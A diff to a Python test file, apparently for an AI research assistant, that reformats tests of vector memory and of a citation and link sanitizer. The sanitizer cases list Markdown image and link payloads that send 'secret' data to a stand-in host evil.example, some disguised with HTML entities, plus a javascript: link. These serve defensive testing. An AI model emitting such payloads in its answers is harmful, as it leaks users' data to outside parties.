@@ -77,8 +77,7 @@ def test_vectors_of_another_embedder_are_made_anew_once(scene: Scene) -> None:
     other = scene.host.open(
         "research", "fake", models={"embed": "words-16"}, settings=scene.settings, history=history
     )
-    first = other.say("And lakes?")
-    assert len(first.data["warnings"]) == 2
+    assert len(other.say("And lakes?").data["warnings"]) == 2
     memory = memory_of(other.history)
     assert memory.entry_vectors.size == memory.fact_vectors.size == 16
     assert memory.entry_vectors.missing() == memory.fact_vectors.missing() == []
@@ -88,8 +87,7 @@ def test_vectors_of_another_embedder_are_made_anew_once(scene: Scene) -> None:
 def test_a_history_of_another_feature_is_remembered(scene: Scene) -> None:
     history = [Message("user", "Do rivers run uphill?"), Message("assistant", "No.")]
     conversation = opened(scene, history=history)
-    answer = conversation.say("Do rivers run uphill?")
-    assert answer.data["warnings"] == []
+    assert conversation.say("Do rivers run uphill?").data["warnings"] == []
     assert memory_of(conversation.history).entry_vectors.missing() == []
 
 
@@ -105,29 +103,20 @@ def test_a_message_without_a_text_leaves_vectors_where_they_belong(scene: Scene)
 
 
 EMPTY: dict[str, Any] = {
-    "entries_from": 0,
-    "entry_vectors": "",
-    "entry_size": 0,
-    "facts_from": 0,
-    "facts": [],
-    "fact_vectors": "",
-    "fact_size": 0,
-}
+    "entries_from": 0, "entry_vectors": "", "entry_size": 0, "facts_from": 0, "facts": [],
+    "fact_vectors": "", "fact_size": 0,
+}  # fmt: skip
 BROKEN: list[Any] = [
-    None,
-    {},
-    {"entries_from": -1},
-    {**EMPTY, "entry_vectors": "AAAA", "entry_size": 64},
+    None, {}, {"entries_from": -1}, {**EMPTY, "entry_vectors": "AAAA", "entry_size": 64},
     {**EMPTY, "facts": [["a", "b"]]},
-]
+]  # fmt: skip
 
 
 @pytest.mark.parametrize("data", BROKEN)
 def test_unreadable_memory_part_is_ignored(scene: Scene, data: Any) -> None:
     message = Message("assistant", [Text("No."), VendorPart("research", data)])
     assert MemoryAdditions.in_message(message) is None
-    history = [Message("user", "Hm?"), message]
-    conversation = opened(scene, history=history)
+    conversation = opened(scene, history=[Message("user", "Hm?"), message])
     assert conversation.say("Go on").summary == "The answer."
 
 
@@ -143,88 +132,75 @@ def test_an_answer_in_a_form_that_was_asked_for(scene: Scene) -> None:
     scene.says = '{"to": "the sea", "at": [7]}'
     schema = {"type": "object", "properties": {"to": {"type": "string"}}, "required": ["to"]}
     for passes in (False, True):
-        conversation = opened(scene, style_pass=passes)
-        answer = conversation.say("Where to?", output_type=schema)
+        answer = opened(scene, style_pass=passes).say("Where to?", output_type=schema)
         assert answer.data == {"to": "the sea", "at": [7]}
 
 
 PROMPT = "[1] Rivers — https://rivers.example/a\n[2] Lakes — https://lakes.example/b?c=d"
 
 
-@pytest.mark.parametrize(
-    ("answer", "text", "numbers"),
-    [
-        ("To the sea [1].", "To the sea [1].", (1,)),
-        ("To the sea[2] and back [1].", "To the sea[2] and back [1].", (1, 2)),
-        ("To the sea [3].", "To the sea.", ()),
-        ("To the sea [1, 3].", "To the sea [1].", (1,)),
-        ("To the sea [0][2].", "To the sea[2].", (2,)),
-        ("`a[3]` and ```\nb[7]\n```", "`a[3]` and ```\nb[7]\n```", ()),
-        ("the first is items[0] [2]", "the first is items[0] [2]", (2,)),
-        ("with $x[3] = 1$, or $$x[4]$$", "with $x[3] = 1$, or $$x[4]$$", ()),
-        (r"with $a_i[3][4] + \alpha[5] = 1$ [3]", r"with $a_i[3][4] + \alpha[5] = 1$", ()),
-        ("between $5 [1] and $6 [3]", "between $5 [1] and $6", (1,)),
-        ("It costs $5 [9] in US$ [1].", "It costs $5 in US$ [1].", (1,)),
-        ("Prices: $5 [1], A$ [7].", "Prices: $5 [1], A$.", (1,)),
-        ("It costs $5 in America[9] and A$ [2].", "It costs $5 in America and A$ [2].", (2,)),
-        ("See $![x](/log?d=secret) y$ [1].", "See $x y$ [1].", (1,)),
-        ("$![x](//evil.example/?d=secret)$", "$x$", ()),
-        ("$[text](/\\evil.example/x)$", "$text$", ()),
-        ("$![x](https:&#47;&#47;evil.example/q)$", "$x$", ()),
-        ("$![x](https&colon;//evil.example/q)$", "$x$", ()),
-        ("`a` $![x](&#104;ttps://evil.example)$", "`a` $x$", ()),
-        ("$<img src=//evil.example/a>$ b [2]", "$<img src=$ b [2]", (2,)),
-        ("See https://rivers.example/a.", "See https://rivers.example/a.", ()),
-        ("See https://rivers.example/other!", "See !", ()),
-        (
-            "See [a page](https://lakes.example/b?c=d).",
-            "See [a page](https://lakes.example/b?c=d).",
-            (),
-        ),
-        ("See [a page](https://evil.example/?q=secret).", "See a page.", ()),
-        ("![x](https://evil.example/?q=secret)", "x", ()),
-        ('[x](https://evil.example "a title") y', "x y", ()),
-        ("[x](javascript:alert(1))", "x)", ()),
-        ("<https://evil.example>", "", ()),
-        ("`https://evil.example`", "``", ()),
-        ("HTTPS://EVIL.EXAMPLE", "", ()),
-        ("www.evil.example/?q=secret", "", ()),
-        ("https:evil.example/x", "", ()),
-        ("![x][a]\n\n[a]: //evil.example/?q=secret", "![x][a]\n\n", ()),
-        ("![x][a]\n> [a]:\n> &sol;/evil.example 'title'", "![x][a]\n", ()),
-        ("<img src='//evil.example/?q=secret'>", "<img src=''>", ()),
-        ("[a]: https://rivers.example/a", "[a]: https://rivers.example/a", ()),
-        ('[a]:\r\n<&sol;/evil.example/a b>\r\n[b]: https\\://evil.example "a\\\nb', "\r\n\nb", ()),
-        ("![a]\n\n[a]: data:image/gif;a (b)\nc", "![a]\n\n\nc", ()),
-        ("[x][ A\tb ]\n\n[a b]: /etc", "[x][ A\tb ]\n\n", ()),
-        ("[1]: the sea/ocean", "[1]: the sea/ocean", (1,)),
-        ("[Ann]: yes/no, it depends.", "[Ann]: yes/no, it depends.", ()),
-        ("- [x]: 3/4 of users agree", "- [x]: 3/4 of users agree", ()),
-        ("[Ann]: AT&T", "[Ann]: AT&T", ()),
-        ("[Ann]: /a (b) c", "[Ann]: /a (b) c", ()),
-        ("open http:80 and https:443.", "open http:80 and https:443.", ()),
-        ("open http:80/x", "open ", ()),
-        ("See //foo.bar", "See //foo.bar", ()),
-        ("[![x](//a.example)](//b.example)", "[x]()", ()),
-        ("either//or, `x //self.y`", "either//or, `x //self.y`", ()),
-        ("[2024] was a year [see 1]", " was a year [see 1]", ()),
-    ],
-)
+@pytest.mark.parametrize(("answer", "text", "numbers"), [
+    ("To the sea [1].", "To the sea [1].", (1,)),
+    ("To the sea[2] and back [1].", "To the sea[2] and back [1].", (1, 2)),
+    ("To the sea [3].", "To the sea.", ()),
+    ("To the sea [1, 3].", "To the sea [1].", (1,)),
+    ("To the sea [0][2].", "To the sea[2].", (2,)),
+    ("`a[3]` and ```\nb[7]\n```", "`a[3]` and ```\nb[7]\n```", ()),
+    ("the first is items[0] [2]", "the first is items[0] [2]", (2,)),
+    ("with $x[3] = 1$, or $$x[4]$$", "with $x[3] = 1$, or $$x[4]$$", ()),
+    (r"with $a_i[3][4] + \alpha[5] = 1$ [3]", r"with $a_i[3][4] + \alpha[5] = 1$", ()),
+    ("between $5 [1] and $6 [3]", "between $5 [1] and $6", (1,)),
+    ("It costs $5 [9] in US$ [1].", "It costs $5 in US$ [1].", (1,)),
+    ("Prices: $5 [1], A$ [7].", "Prices: $5 [1], A$.", (1,)),
+    ("It costs $5 in America[9] and A$ [2].", "It costs $5 in America and A$ [2].", (2,)),
+    ("See $![x](/log?d=secret) y$ [1].", "See $x y$ [1].", (1,)),
+    ("$![x](//evil.example/?d=secret)$", "$x$", ()),
+    ("$[text](/\\evil.example/x)$", "$text$", ()),
+    ("$![x](https:&#47;&#47;evil.example/q)$", "$x$", ()),
+    ("$![x](https&colon;//evil.example/q)$", "$x$", ()),
+    ("`a` $![x](&#104;ttps://evil.example)$", "`a` $x$", ()),
+    ("$<img src=//evil.example/a>$ b [2]", "$<img src=$ b [2]", (2,)),
+    ("See https://rivers.example/a.", "See https://rivers.example/a.", ()),
+    ("See https://rivers.example/other!", "See !", ()),
+    ("See [a page](https://lakes.example/b?c=d).", "See [a page](https://lakes.example/b?c=d).",
+     ()),
+    ("See [a page](https://evil.example/?q=secret).", "See a page.", ()),
+    ("![x](https://evil.example/?q=secret)", "x", ()),
+    ('[x](https://evil.example "a title") y', "x y", ()),
+    ("[x](javascript:alert(1))", "x)", ()), ("<https://evil.example>", "", ()),
+    ("`https://evil.example`", "``", ()), ("HTTPS://EVIL.EXAMPLE", "", ()),
+    ("www.evil.example/?q=secret", "", ()), ("https:evil.example/x", "", ()),
+    ("![x][a]\n\n[a]: //evil.example/?q=secret", "![x][a]\n\n", ()),
+    ("![x][a]\n> [a]:\n> &sol;/evil.example 'title'", "![x][a]\n", ()),
+    ("<img src='//evil.example/?q=secret'>", "<img src=''>", ()),
+    ("[a]: https://rivers.example/a", "[a]: https://rivers.example/a", ()),
+    ('[a]:\r\n<&sol;/evil.example/a b>\r\n[b]: https\\://evil.example "a\\\nb', "\r\n\nb", ()),
+    ("![a]\n\n[a]: data:image/gif;a (b)\nc", "![a]\n\n\nc", ()),
+    ("[x][ A\tb ]\n\n[a b]: /etc", "[x][ A\tb ]\n\n", ()),
+    ("[1]: the sea/ocean", "[1]: the sea/ocean", (1,)),
+    ("[Ann]: yes/no, it depends.", "[Ann]: yes/no, it depends.", ()),
+    ("- [x]: 3/4 of users agree", "- [x]: 3/4 of users agree", ()),
+    ("[Ann]: AT&T", "[Ann]: AT&T", ()),
+    ("[Ann]: /a (b) c", "[Ann]: /a (b) c", ()),
+    ("open http:80 and https:443.", "open http:80 and https:443.", ()),
+    ("open http:80/x", "open ", ()),
+    ("See //foo.bar", "See //foo.bar", ()),
+    ("[![x](//a.example)](//b.example)", "[x]()", ()),
+    ("either//or, `x //self.y`", "either//or, `x //self.y`", ()),
+    ("[2024] was a year [see 1]", " was a year [see 1]", ()),
+])  # fmt: skip
 def test_what_is_left_of_an_answer(answer: str, text: str, numbers: tuple[int, ...]) -> None:
     citations = cited(answer, PROMPT, 2)
     assert (citations.text, citations.numbers) == (text, numbers)
     assert bool(citations.left_out) == (answer != text)
 
 
-@pytest.mark.parametrize(
-    ("answer", "text"),
-    [
-        ("[Ann]: /etc", "\\[Ann]: /etc"),
-        ("- [x]: /etc/hosts 'a'\n> [y]: C:/temp", "- \\[x]: /etc/hosts 'a'\n> \\[y]: C:/temp"),
-        ("[a]: data:image/gif;a (b)\nc", "\\[a]: data:image/gif;a (b)\nc"),
-        ("[a]: /x\n[a]: /y", "\\[a]: /x\n\\[a]: /y"),
-    ],
-)
+@pytest.mark.parametrize(("answer", "text"), [
+    ("[Ann]: /etc", "\\[Ann]: /etc"),
+    ("- [x]: /etc/hosts 'a'\n> [y]: C:/temp", "- \\[x]: /etc/hosts 'a'\n> \\[y]: C:/temp"),
+    ("[a]: data:image/gif;a (b)\nc", "\\[a]: data:image/gif;a (b)\nc"),
+    ("[a]: /x\n[a]: /y", "\\[a]: /x\n\\[a]: /y"),
+])  # fmt: skip
 def test_a_line_that_only_resembles_a_definition_is_escaped(answer: str, text: str) -> None:
     """Otherwise, Markdown would not show it."""
     assert cited(answer, PROMPT, 2) == Cited(text)
